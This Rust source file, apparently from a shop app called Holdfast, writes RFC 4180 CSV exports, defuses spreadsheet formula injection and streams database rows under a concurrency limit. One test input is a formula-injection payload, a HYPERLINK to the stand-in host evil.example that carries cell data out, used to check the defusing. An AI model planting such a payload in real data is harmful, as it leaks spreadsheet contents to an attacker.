//! Writing CSV and streaming it: cells as RFC 4180 says, with formulas a
//! spreadsheet would run defused ([`push_cell`]); rows as the database sends
//! them, a chunk at a time ([`stream_csv`]); and the turns a process gives
//! out, so that exports leave the shop's pages their connections
//! ([`Exports`]).

use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use chrono::{DateTime, Utc};
use futures::stream::{self, BoxStream, StreamExt};
use sqlx::postgres::PgRow;
use sqlx::{Executor, FromRow, PgPool};
use tokio::sync::{OwnedSemaphorePermit, Semaphore};

use super::ExportError;
use super::filter::{ExportFilter, check_names, record_export};
use crate::audit::Actor;
use crate::clock::ShopZone;

/// Exports streaming at once in one process: each holds a database
/// connection for as long as its download takes, and the shop's pages need
/// the rest of the pool.
const STREAMS_AT_ONCE: usize = 4;
/// How long an export waits for another to finish before it is refused.
const STREAM_WAIT: Duration = Duration::from_secs(5);
/// Rows written into one chunk of the response at most (those already read
/// from the database; a chunk never waits for more).
const ROWS_PER_CHUNK: usize = 64;
/// What a chunk is made in: 64 rows of the longest names and addresses fit,
/// so a chunk is allocated once, at one size, and each reuses the last's
/// memory (below the allocator's threshold for mapping memory of its own).
const CHUNK_BYTES: usize = 64 * 1024;

/// Appends one cell to a CSV line.
///
/// RFC 4180: a cell holding a comma, a double quote, CR or LF is put in
/// double quotes, with its quotes doubled.
///
/// Formula injection: a spreadsheet runs a cell that starts with `=`, `+`,
/// `-` or `@` as a formula (`=HYPERLINK(...)` in a customer's name sends
/// whoever clicks it to the attacker, with the sheet's data in the link), and
/// some also after a leading tab or CR. Such a cell, and one whose first
/// character after leading white space is one of those, is prefixed with an
/// apostrophe (`'`), which every spreadsheet shows as text and none runs;
/// the rest of the cell is kept as it was. Holdfast's own values never
/// start so (codes, ids, times and amounts are never negative), so a
/// leading apostrophe in an export always marks text that came from
/// someone's input.
pub fn push_cell(line: &mut String, value: &str) {
    const FORMULA: [char; 4] = ['=', '+', '-', '@'];
    let defuse = value.starts_with(['\t', '\r'])
        || value
            .trim_start_matches(char::is_whitespace)
            .starts_with(FORMULA);
    let quote = value.contains([',', '"', '\r', '\n']);
    if quote {
        line.push('"');
    }
    if defuse {
        line.push('\'');
    }
    if quote {
        line.push_str(&value.replace('"', "\"\""));
        line.push('"');
    } else {
        line.push_str(value);
    }
}

/// Appends one whole line: cells separated by commas, ended by CRLF.
pub fn push_line<'a>(out: &mut String, cells: impl IntoIterator<Item = &'a str>) {
    for (i, cell) in cells.into_iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        push_cell(out, cell);
    }
    out.push_str("\r\n");
}

/// The byte order mark that tells a spreadsheet the file is UTF-8.
pub(super) const BOM: &str = "\u{feff}";

/// A moment in the shop's zone with its offset: `2026-12-01 19:02:03+01:00`.
pub(super) fn moment(zone: ShopZone, at: Option<DateTime<Utc>>) -> String {
    at.map(|at| zone.local(at).format("%Y-%m-%d %H:%M:%S%:z").to_string())
        .unwrap_or_default()
}

pub(super) fn yes(value: bool) -> &'static str {
    if value { "yes" } else { "no" }
}

/// A file on its way: its name, and its bytes as they are made.
pub struct CsvExport {
    pub filename: String,
    pub body: BoxStream<'static, Result<Bytes, sqlx::Error>>,
}

/// A row of an export, written as one CSV line.
pub(super) trait CsvRow: for<'r> FromRow<'r, PgRow> + Send + Unpin + 'static {
    /// The header line's names.
    const COLUMNS: &'static [&'static str];
    /// The query, taking the filter's parameters ([`ExportFilter::bind`]).
    const SQL: &'static str;
    /// How Activity records the export.
    const ACTION: &'static str;
    /// The file name's first word.
    const FILE: &'static str;
    fn cells(&self, zone: ShopZone) -> Vec<String>;
}

/// An export of `R`'s rows as CSV: a turn to stream, the names the filter
/// gives checked, the export recorded in Activity (before its first row is
/// read), then its rows as they come.
pub(super) async fn export<R: CsvRow>(
    pool: &PgPool,
    exports: &Exports,
    by: Actor<'_>,
    filter: &ExportFilter,
    zone: ShopZone,
) -> Result<CsvExport, ExportError> {
    let turn = exports.turn().await?;
    check_names(pool, filter).await?;
    record_export(pool, by, R::ACTION, filter).await?;
    let rows = rows::<R>(pool, filter, zone);
    stream_csv(turn, rows, zone, filter.filename(R::FILE)).await
}

/// The rows of `R`'s query for a filter, as the database sends them. The pool's
/// own fetch: the stream takes a connection of its own and keeps it until
/// the last row is read or the stream is dropped.
pub(super) fn rows<R: CsvRow>(
    pool: &PgPool,
    filter: &ExportFilter,
    zone: ShopZone,
) -> BoxStream<'static, sqlx::Result<R>> {
    pool.fetch(filter.bind(zone, R::SQL))
        .map(|row| R::from_row(&row?))
        .boxed()
}

/// The downloads a server process streams: at most [`STREAMS_AT_ONCE`] at
/// once, each holding its turn until its last row left or the download was
/// dropped. One per process (`state::Shop`).
#[derive(Debug, Clone)]
pub struct Exports {
    streaming: Arc<Semaphore>,
}

impl Default for Exports {
    fn default() -> Self {
        Self {
            streaming: Arc::new(Semaphore::new(STREAMS_AT_ONCE)),
        }
    }
}

impl Exports {
    /// A turn to stream, waited for a little while.
    pub(super) async fn turn(&self) -> Result<OwnedSemaphorePermit, ExportError> {
        tokio::time::timeout(STREAM_WAIT, self.streaming.clone().acquire_owned())
            .await
            .map_err(|_| ExportError::Busy)?
            .map_err(|_| ExportError::Busy)
    }
}

/// Rows as CSV: the header line, then the rows in chunks of those the
/// database has already sent (at most [`ROWS_PER_CHUNK`]; a chunk never
/// waits for more). Answers once the first chunk is ready, so a query that
/// cannot run is an error here rather than a file cut short.
pub(super) async fn stream_csv<R: CsvRow>(
    turn: OwnedSemaphorePermit,
    rows: BoxStream<'static, sqlx::Result<R>>,
    zone: ShopZone,
    filename: String,
) -> Result<CsvExport, ExportError> {
    let mut chunks: BoxStream<'static, Result<Bytes, sqlx::Error>> = rows
        .ready_chunks(ROWS_PER_CHUNK)
        .map(move |rows| {
            let mut out = String::with_capacity(CHUNK_BYTES);
            for row in rows {
                push_line(&mut out, row?.cells(zone).iter().map(String::as_str));
            }
            Ok(Bytes::from(out))
        })
        .boxed();
    let mut head = String::from(BOM);
    push_line(&mut head, R::COLUMNS.iter().copied());
    let first = match chunks.next().await {
        Some(Ok(rows)) => [head.as_bytes(), &rows].concat(),
        Some(Err(error)) => return Err(error.into()),
        None => head.into_bytes(),
    };
    let body = stream::once(async move { Ok(Bytes::from(first)) })
        .chain(chunks)
        // the turn ends with the last row, or with a dropped download
        .map(move |chunk| {
            let _streaming = &turn;
            chunk
        })
        .boxed();
    Ok(CsvExport { filename, body })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn line(cells: &[&str]) -> String {
        let mut out = String::new();
        push_line(&mut out, cells.iter().copied());
        out
    }

    #[test]
    fn cells_are_quoted_as_rfc_4180_says() {
        assert_eq!(line(&["a", "b c", ""]), "a,b c,\r\n");
        assert_eq!(line(&["a,b"]), "\"a,b\"\r\n");
        assert_eq!(line(&["say \"hi\""]), "\"say \"\"hi\"\"\"\r\n");
        assert_eq!(line(&["one\ntwo", "x\r\ny"]), "\"one\ntwo\",\"x\r\ny\"\r\n");
        assert_eq!(line(&["Zoë Ünal", "€12.50"]), "Zoë Ünal,€12.50\r\n");
    }

    #[test]
    fn cells_a_spreadsheet_would_run_are_prefixed_with_an_apostrophe() {
        assert_eq!(line(&["=1+1"]), "'=1+1\r\n");
        assert_eq!(line(&["+31 6 1234"]), "'+31 6 1234\r\n");
        assert_eq!(line(&["-2"]), "'-2\r\n");
        assert_eq!(line(&["@SUM(A1)"]), "'@SUM(A1)\r\n");
        assert_eq!(line(&["\tx"]), "'\tx\r\n");
        assert_eq!(line(&["\rx"]), "\"'\rx\"\r\n");
        assert_eq!(line(&["  =1"]), "'  =1\r\n");
        assert_eq!(
            line(&["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click, here\")"]),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click, here\"\")\"\r\n"
        );
        // what Holdfast writes itself is left alone
        for plain in [
            "TKT-ABCD-EFGH",
            "2026-12-01 19:02:03+01:00",
            "€35.00",
            "0",
            "a-b",
        ] {
            assert_eq!(line(&[plain]), format!("{plain}\r\n"));
        }
    }
}
